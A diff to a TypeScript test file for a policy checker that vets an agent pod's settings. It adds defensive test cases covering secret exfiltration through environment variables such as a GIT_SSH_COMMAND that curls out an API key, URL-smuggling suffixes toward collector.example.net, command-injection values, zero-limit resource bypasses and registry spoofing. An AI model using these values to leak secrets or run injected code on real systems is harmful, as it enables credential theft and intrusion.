@@ -5,6 +5,7 @@ import { describe, expect, test } from "vitest";
 import { buildPrompt } from "../src/claude/prompt.ts";
 import { buildRunSpec } from "../src/claude/run-spec.ts";
 import type { ExecutionContext } from "../src/host/contract.ts";
+import { refusedVariables } from "../src/operator/destinations.ts";
 import type { OperatorFile } from "../src/operator/file-schema.ts";
 import { allowsImage, matches } from "../src/operator/patterns.ts";
 import { quantityValue } from "../src/operator/quantities.ts";
@@ -252,6 +253,21 @@ describe("where the run's token goes", () => {
       { mcp: "http://localhost:3100/mcp", rules: { allow: { mcpOrigins: [] } } },
       [],
     ],
+      ...["\\@collector.example.net/", "#@collector.example.net/", "?@collector.example.net/", "/\\@x"].map(
+      (rest): Row => [
+        `Paperclip's address, as we read it, with ${rest} behind it`,
+        {
+          config: { paperclipApiUrl: `http://paperclip:3100${rest}` },
+          rules: { allow: { apiOrigins: ["http://paperclip:3100"] } },
+        },
+        ["paperclipApiUrl allow.apiOrigins"],
+      ],
+    ),
+    ...["http://paperclip:3100", "http://PAPERCLIP:3100/", "http://paperclip:3100/team/pc"].map((url): Row => [
+      `${url}, which is allowed`,
+      { config: { paperclipApiUrl: url }, rules: { allow: { apiOrigins: ["http://paperclip:3100"] } } },
+      [],
+    ]),
   ];
   test.each(rows)("%s", async (_what, asked, expected) => {
     expect(await refused(asked)).toEqual(expected);
@@ -401,8 +417,8 @@ describe("variables that send a secret elsewhere", () => {
     ],
     [
       "a name without end",
-      env({ [`A${"_HTTP_PROXY".repeat(50_000)}`]: "x" }),
-      [`env.A${"_HTTP_PROXY".repeat(50_000)}`.slice(0, 260) + " allow.env"],
+      env({ [`A${"_HTTP_PROXY".repeat(10_000)}`]: "x" }),
+      [`env.A${"_HTTP_PROXY".repeat(10_000)}`.slice(0, 260) + " allow.env"],
     ],
     ["a debugger for node", env({ NODE_OPTIONS: "--inspect=0.0.0.0:9229" }), ["env.NODE_OPTIONS allow.env"]],
     [
@@ -423,13 +439,53 @@ describe("variables that send a secret elsewhere", () => {
     expect(await refused(asked)).toEqual(expected);
   });
 
+  const running: readonly (readonly [name: string, attack: string, use: string | null])[] = [
+    ["GIT_SSH_COMMAND", "sh -c 'curl x -d $PAPERCLIP_API_KEY'", "ssh -i /keys/id -o StrictHostKeyChecking=no"],
+    ["GIT_SSH_COMMAND", "ssh -o ProxyCommand=/workspace/x", "ssh -p 2222 -o IdentitiesOnly=yes"],
+    ["GIT_SSH", "/workspace/x", null],
+    ["GIT_EXTERNAL_DIFF", "/workspace/x", null],
+    ["GIT_EXEC_PATH", "/workspace", null],
+    ["GIT_PAGER", "sh -c 'x'", "cat"],
+    ["PAGER", "/workspace/x", "less -R"],
+    ["EDITOR", "sh -c x", "vim"],
+    ["GIT_EDITOR", "$(x)", "true"],
+    ["PYTHONSTARTUP", "/workspace/x.py", null],
+    ["PERL5OPT", "-Mx", null],
+    ["RUBYOPT", "-rx", null],
+    ["JAVA_TOOL_OPTIONS", "-javaagent:/workspace/x.jar", "-Xmx2g -XX:+UseG1GC"],
+    ["MAKEFLAGS", "--eval=$(shell x)", "-j4"],
+    ["LESSOPEN", "|x %s", null],
+    ["OPENSSL_CONF", "/workspace/x", null],
+    ["PS4", "$(x)", "+ "],
+    ["npm_config_script_shell", "/workspace/x", null],
+    ["npm_config_node_options", "--require /workspace/x", null],
+    ["CLAUDE_CODE_SHELL", "/workspace/x", "/bin/bash"],
+    ["SHELL", "/workspace/x", "/usr/bin/zsh"],
+  ];
+  test.each(running)("%s=%s, which a program runs, beside %s", async (name, attack, use) => {
+    expect(await refused(env({ [name]: attack }))).toEqual([`env.${name} allow.env`]);
+    if (use !== null) expect(await refused(env({ [name]: use }))).toEqual([]);
+  });
+
+  test("tens of thousands of addresses beside as many keys of one service", () => {
+    const names = Array.from({ length: 30_000 }, (_, index) => [`GIT_URL_${index}`, `GIT_KEY_${index}`]).flat();
+    const variables = names.map((name) => ({ name, value: "x", origin: "agent" as const }));
+    const rules = { allowed: [], values: { company: "c", agent: "a" } };
+    const before = performance.now();
+    expect(refusedVariables({ ...rules, variables })).toEqual([]);
+    const beside = [{ name: "GIT_TOKEN_OF_THE_PROJECT", value: "y", origin: "elsewhere" as const }];
+    expect(refusedVariables({ ...rules, variables, beside })).toHaveLength(30_000);
+    // Each with each takes half a minute, during which the server answers nobody.
+    expect(performance.now() - before).toBeLessThan(15_000);
+  });
+
   test("thousands of variables, half of them secrets, are judged at once", async () => {
     const many = Object.fromEntries(
-      Array.from({ length: 20_000 }, (_, index) => [index % 2 ? `S${index}_URL` : `S${index}_TOKEN`, "x"]),
+      Array.from({ length: 2000 }, (_, index) => [index % 2 ? `S${index}_URL` : `S${index}_TOKEN`, "x"]),
     );
     expect(await refused(env(many))).toEqual([]);
     expect(
-      await refused({ config: main({ env: [{ name: `A${"_HTTP_PROXY".repeat(50_000)}\n`, value: "x" }] }) }),
+      await refused({ config: main({ env: [{ name: `A${"_HTTP_PROXY".repeat(10_000)}\n`, value: "x" }] }) }),
     ).toHaveLength(1);
     expect(await refused(env({ NODE_OPTIONS: `${" ".repeat(200_000)}x` }))).toEqual([
       "env.NODE_OPTIONS allow.env",
@@ -626,6 +682,21 @@ describe("the operator's maximum", () => {
     ],
     ["CPU", { config: { "resources.limits.cpu": "2001m" }, rules }, ["resources.limits.cpu maximum.cpu"]],
     [
+      "a limit of 0, which the kubelet takes for none",
+      { config: { resources: { limits: { cpu: "0", memory: "0.0Gi", "ephemeral-storage": "0e3" } } }, rules },
+      [
+        "resources.limits.cpu maximum.cpu",
+        "resources.limits.memory maximum.memory",
+        "resources.limits.ephemeral-storage maximum.ephemeralStorage",
+      ],
+    ],
+    [
+      "the overlay's limit of 0",
+      { config: main({ resources: { limits: { cpu: "0m", memory: "0" } } }), rules },
+      ["podTemplate.spec.containers maximum.cpu", "podTemplate.spec.containers maximum.memory"],
+    ],
+    ["a request of 0", { config: { resources: { limits: all, requests: { cpu: "0" } } }, rules }, []],
+    [
       "memory, in other units",
       { config: { "resources.requests.memory": "4294967297" }, rules },
       ["resources.requests.memory maximum.memory"],
@@ -816,6 +887,15 @@ describe("nothing that a setting can hold makes the rules throw, or lets a pod o
   });
 });
 
+test("thousands of init containers and variables of an overlay do not stop the server", async () => {
+  const asked = (spec: object) => refused({ config: overlay(spec), rules: { maximum: { cpu: "2" } } });
+  const before = performance.now();
+  const texts = Array.from({ length: 4000 }, (_, index) => ({ name: `c${index}` }));
+  expect(await asked({ initContainers: texts })).not.toEqual([]);
+  expect(await asked({ containers: [{ name: "main", env: texts }] })).toEqual([]);
+  expect(performance.now() - before).toBeLessThan(15_000);
+});
+
 describe("patterns", () => {
   const values = { company: "c1", agent: "a1" };
   test.each([
@@ -848,6 +928,9 @@ describe("patterns", () => {
     ["acme/*", "docker.io/acme/x", true],
     ["acme/*", "index.docker.io/acme/x", true],
     ["acme/*", "evil.io/acme/x", false],
+    ["docker.io/*", "EVIL/acme/x", false],
+    ["acme/*", "ACME/x", false],
+    ["EVIL/acme/*", "EVIL/acme/x:1", true],
     ["localhost:5000/x", "localhost:5000/x:1", true],
     ["localhost:5000/x", "localhost:5001/x:1", false],
     ["*", "anything/at/all", true],
